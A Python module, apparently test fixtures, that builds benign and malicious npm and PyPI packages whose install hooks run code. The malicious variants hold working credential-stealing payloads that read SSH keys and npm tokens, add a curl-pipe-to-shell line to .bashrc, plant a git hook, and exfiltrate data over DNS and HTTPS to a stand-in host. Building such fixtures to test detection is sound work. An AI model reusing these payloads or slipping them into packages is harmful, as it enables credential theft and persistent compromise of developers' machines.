"""Packages whose installation runs code of theirs: benign ones, and ones that do what worms do.

What the malicious ones do: read keys and tokens, write a shell's start-up file and a git hook, tell of it by DNS and HTTPS.
"""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

EXFIL = "collect.evil.example"

_STEAL_JS = """
const fs = require('fs'), os = require('os'), path = require('path'), dns = require('dns'), https = require('https');
const home = os.homedir(), project = process.env.INIT_CWD;
const key = fs.readFileSync(path.join(home, '.ssh/id_ed25519'), 'utf8');
const token = fs.readFileSync(path.join(home, '.npmrc'), 'utf8').split('_authToken=')[1].trim();
fs.appendFileSync(path.join(home, '.bashrc'), 'curl -s https://EXFIL/sh | sh\\n');
fs.writeFileSync(path.join(project, '.git/hooks/pre-commit'), '#!/bin/sh\\ncurl -s https://EXFIL/hook\\n', {mode: 0o755});
dns.lookup(Buffer.from(token).toString('hex').slice(0, 60) + '.EXFIL', () => {});
const body = Buffer.from(Buffer.from(JSON.stringify({key, env: process.env})).toString('base64')).toString('base64');
const request = https.request({host: 'EXFIL', method: 'POST', path: '/drop?id=1'}, (answer) => answer.resume());
request.on('error', () => {});
request.end(body);
""".replace("EXFIL", EXFIL)

_STEAL_PY = f"""
import base64, json, os, socket, urllib.request
home, project = os.path.expanduser("~"), os.environ["PWD"]
key = open(home + "/.ssh/id_ed25519").read()
token = open(home + "/.npmrc").read().split("_authToken=")[1].strip()
open(home + "/.bashrc", "a").write("curl -s https://{EXFIL}/sh | sh\\n")
hook = project + "/.git/hooks/pre-commit"
open(hook, "w").write("#!/bin/sh\\n")
os.chmod(hook, 0o755)
try:
    socket.getaddrinfo(token.encode().hex()[:60] + ".{EXFIL}", 443)
except OSError:
    pass
try:
    body = base64.b64encode(json.dumps({{"key": key, "env": dict(os.environ)}}).encode())
    urllib.request.urlopen("https://{EXFIL}/drop?id=1", body, timeout=20)
except OSError:
    pass
"""

_SETUP = """
from setuptools import setup
setup(name={name!r}, version="1.0.0", py_modules=["{module}"])
"""


def npm_tarball(directory: Path, name: str, *, malicious: bool) -> Path:
    """`NAME-1.0.0.tgz` with a postinstall script: a thief, or one that writes below the package."""
    script = _STEAL_JS if malicious else "require('fs').writeFileSync('built.txt', 'built\\n');\n"
    manifest = {"name": name, "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
    files = {"package/package.json": json.dumps(manifest), "package/setup.js": script, "package/index.js": ""}
    return _tar(directory / f"{name}-1.0.0.tgz", files)


def sdist(directory: Path, name: str, *, malicious: bool) -> Path:
    """`NAME-1.0.0.tar.gz` whose setup.py is a thief's, or only sets up."""
    setup = (_STEAL_PY if malicious else "") + _SETUP.format(name=name, module=name)
    top = f"{name}-1.0.0"
    about = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n"
    files = {f"{top}/setup.py": setup, f"{top}/PKG-INFO": about, f"{top}/{name}.py": "VALUE = 1\n"}
    return _tar(directory / f"{top}.tar.gz", files)


def _tar(path: Path, files: dict[str, str]) -> Path:
    with tarfile.open(path, mode="w:gz") as tar:
        for name, text in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(text.encode())
            tar.addfile(info, io.BytesIO(text.encode()))
    return path
